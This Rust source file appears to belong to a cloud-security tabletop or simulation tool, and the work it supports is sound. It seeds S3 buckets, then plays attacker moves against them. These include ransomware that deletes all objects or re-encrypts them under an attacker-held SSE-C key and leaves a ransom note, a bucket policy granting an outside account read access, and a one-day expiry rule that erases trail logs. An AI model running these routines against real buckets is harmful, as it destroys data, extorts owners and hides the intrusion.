//! S3 in a scenario: the buckets seeded before the incident, and the
//! attacker's moves on them (ransomware by deletion and by SSE-C
//! re-encryption, a backdoor bucket policy, a trail's logs set to expire).

use aws_sdk_s3::types::{
    BucketLifecycleConfiguration, BucketVersioningStatus, Delete, ExpirationStatus,
    LifecycleExpiration, LifecycleRule, LifecycleRuleFilter, ObjectIdentifier,
    VersioningConfiguration,
};
use schemars::JsonSchema;
use serde::Deserialize;

use super::admin::Admin;
use super::moves::{Played, error_text};
use super::scenario::{Move, MoveKind};
use super::seed::ATTACKER_ACCOUNT;

/// A bucket that exists before the incident, with a few objects.
#[derive(Debug, Clone, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct BucketSeed {
    pub name: String,
    #[serde(default = "home_region")]
    pub region: String,
    /// Objects put in it (1 to 100).
    #[serde(default = "three")]
    pub objects: u16,
    /// Versioning on before the incident.
    #[serde(default)]
    pub versioning: bool,
}

fn home_region() -> String {
    "us-east-1".into()
}

fn three() -> u16 {
    3
}

/// The ransom note every ransomware move leaves.
pub const RANSOM_NOTE: &str = "RANSOM-NOTE.txt";

/// The rule `expire_trail_logs` puts on a trail's bucket.
pub const EXPIRY_RULE: &str = "tabletop-expire-logs";

/// The attacker's own SSE-C key (a fixed test value, 32 bytes) and its
/// MD5, both base64 as S3 takes them.
const SSE_C_KEY: &str = "dGFibGV0b3AtYXR0YWNrZXItcmFuc29tLWtleS0yNTY=";
const SSE_C_KEY_MD5: &str = "Epwb97KS1qzorm3t+rV4rA==";

/// The bucket a seeded trail writes to.
pub fn trail_bucket(trail: &str) -> String {
    format!("tabletop-trail-{}", trail.to_lowercase())
}

/// What is wrong with a bucket seed.
pub fn check(b: &BucketSeed) -> Option<String> {
    let valid = (3..=63).contains(&b.name.len())
        && b.name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '.');
    if !valid {
        return Some(format!(
            "`{}` is not a bucket name (3 to 63 lowercase letters, digits, `-` and `.`)",
            b.name
        ));
    }
    (b.objects == 0 || b.objects > 100)
        .then(|| format!("objects must be 1 to 100, found {}", b.objects))
}

/// Creates bucket `name` in `region` (outside us-east-1 S3 needs the
/// region as a location constraint).
pub async fn create(admin: &Admin, region: &str, name: &str) -> Result<(), String> {
    let mut create = admin.s3(region).create_bucket().bucket(name);
    if region != "us-east-1" {
        create = create.create_bucket_configuration(
            aws_sdk_s3::types::CreateBucketConfiguration::builder()
                .location_constraint(aws_sdk_s3::types::BucketLocationConstraint::from(region))
                .build(),
        );
    }
    create.send().await.map(|_| ()).map_err(|e| error_text(&e))
}

/// Creates a seeded bucket and its objects; returns how many objects.
pub async fn seed(admin: &Admin, b: &BucketSeed) -> Result<usize, String> {
    let s3 = admin.s3(&b.region);
    let text = |e: &dyn std::fmt::Display| format!("bucket {}: {e}", b.name);
    create(admin, &b.region, &b.name)
        .await
        .map_err(|e| text(&e))?;
    if b.versioning {
        let on = VersioningConfiguration::builder()
            .status(BucketVersioningStatus::Enabled)
            .build();
        let put = s3.put_bucket_versioning().bucket(&b.name);
        put.versioning_configuration(on)
            .send()
            .await
            .map_err(|e| text(&e))?;
    }
    for n in 1..=b.objects {
        s3.put_object()
            .bucket(&b.name)
            .key(format!("data/object-{n:03}.csv"))
            .body(
                format!("id,value\n{n},seeded before the incident\n")
                    .into_bytes()
                    .into(),
            )
            .send()
            .await
            .map_err(|e| text(&e))?;
    }
    Ok(usize::from(b.objects))
}

/// Plays a bucket move (the region is the bucket's, or the trail's).
pub async fn play(admin: &Admin, m: &Move) -> (String, Played) {
    let region = m.region.clone().unwrap_or_else(home_region);
    let s3 = admin.s3(&region);
    let bucket = match (&m.bucket, &m.trail) {
        (Some(b), _) => b.clone(),
        (None, Some(t)) => trail_bucket(t),
        _ => String::new(),
    };
    let subject = format!("bucket {bucket}");
    let r = match m.action {
        MoveKind::S3RansomwareBatch => ransom(&s3, &bucket, Wipe::Batch).await,
        MoveKind::S3RansomwareIndividual => ransom(&s3, &bucket, Wipe::OneByOne).await,
        MoveKind::S3RansomwareSseC => ransom(&s3, &bucket, Wipe::Encrypt).await,
        MoveKind::BackdoorBucketPolicy => {
            let policy = serde_json::json!({
                "Version": "2012-10-17",
                "Statement": [{
                    "Sid": "TabletopAttackerRead",
                    "Effect": "Allow",
                    "Principal": { "AWS": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:root") },
                    "Action": ["s3:GetObject", "s3:ListBucket"],
                    "Resource": [format!("arn:aws:s3:::{bucket}"), format!("arn:aws:s3:::{bucket}/*")]
                }]
            });
            s3.put_bucket_policy()
                .bucket(&bucket)
                .policy(policy.to_string())
                .send()
                .await
                .map(|_| (vec![bucket.clone()], Vec::new()))
                .map_err(|e| error_text(&e))
        }
        MoveKind::ExpireTrailLogs => {
            let rule = LifecycleRule::builder()
                .id(EXPIRY_RULE)
                .filter(LifecycleRuleFilter::builder().prefix("").build())
                .status(ExpirationStatus::Enabled)
                .expiration(LifecycleExpiration::builder().days(1).build())
                .build();
            let config = rule.map_err(|e| e.to_string()).and_then(|r| {
                BucketLifecycleConfiguration::builder()
                    .rules(r)
                    .build()
                    .map_err(|e| e.to_string())
            });
            match config {
                Ok(config) => s3
                    .put_bucket_lifecycle_configuration()
                    .bucket(&bucket)
                    .lifecycle_configuration(config)
                    .send()
                    .await
                    .map(|_| (vec![bucket.clone()], Vec::new()))
                    .map_err(|e| error_text(&e)),
                Err(e) => Err(e),
            }
        }
        _ => Err("not a bucket move".into()),
    };
    (subject, r)
}

#[derive(Clone, Copy, PartialEq)]
enum Wipe {
    Batch,
    OneByOne,
    Encrypt,
}

/// Every object of `bucket` deleted (in batches or one by one) or rewritten
/// under the attacker's key, then the ransom note left.
async fn ransom(s3: &aws_sdk_s3::Client, bucket: &str, wipe: Wipe) -> Played {
    let listed = s3
        .list_objects_v2()
        .bucket(bucket)
        .send()
        .await
        .map_err(|e| error_text(&e))?;
    let keys: Vec<String> = listed
        .contents()
        .iter()
        .filter_map(|o| o.key().map(str::to_string))
        .filter(|k| k != RANSOM_NOTE)
        .collect();
    let (mut done, mut refused) = (Vec::new(), Vec::new());
    match wipe {
        Wipe::Batch => {
            for chunk in keys.chunks(1000) {
                let ids: Result<Vec<ObjectIdentifier>, _> = chunk
                    .iter()
                    .map(|k| ObjectIdentifier::builder().key(k).build())
                    .collect();
                let delete = ids.and_then(|ids| Delete::builder().set_objects(Some(ids)).build());
                let delete = delete.map_err(|e| e.to_string())?;
                let out = s3
                    .delete_objects()
                    .bucket(bucket)
                    .delete(delete)
                    .send()
                    .await
                    .map_err(|e| error_text(&e))?;
                done.extend(
                    out.deleted()
                        .iter()
                        .filter_map(|d| d.key().map(str::to_string)),
                );
                refused.extend(out.errors().iter().map(|e| {
                    format!(
                        "{}: {}",
                        e.key().unwrap_or("?"),
                        e.code().unwrap_or("error")
                    )
                }));
            }
        }
        Wipe::OneByOne => {
            for k in &keys {
                match s3.delete_object().bucket(bucket).key(k).send().await {
                    Ok(_) => done.push(k.clone()),
                    Err(e) => refused.push(format!("{k}: {}", error_text(&e))),
                }
            }
        }
        Wipe::Encrypt => {
            for k in &keys {
                let rewritten = async {
                    let got = s3.get_object().bucket(bucket).key(k).send().await;
                    let body = got.map_err(|e| error_text(&e))?.body.collect().await;
                    let bytes = body.map_err(|e| e.to_string())?.into_bytes();
                    s3.put_object()
                        .bucket(bucket)
                        .key(k)
                        .body(bytes.into())
                        .sse_customer_algorithm("AES256")
                        .sse_customer_key(SSE_C_KEY)
                        .sse_customer_key_md5(SSE_C_KEY_MD5)
                        .send()
                        .await
                        .map_err(|e| error_text(&e))
                }
                .await;
                match rewritten {
                    Ok(_) => done.push(k.clone()),
                    Err(e) => refused.push(format!("{k}: {e}")),
                }
            }
        }
    }
    if !done.is_empty() {
        let note = "Your files are gone. Pay 5 BTC to recover them. (tabletop exercise)";
        let put = s3.put_object().bucket(bucket).key(RANSOM_NOTE);
        // The note is the attacker's signature, not the damage: a failed
        // put changes nothing the report judges.
        let _ = put.body(note.as_bytes().to_vec().into()).send().await;
    }
    Ok((done, refused))
}
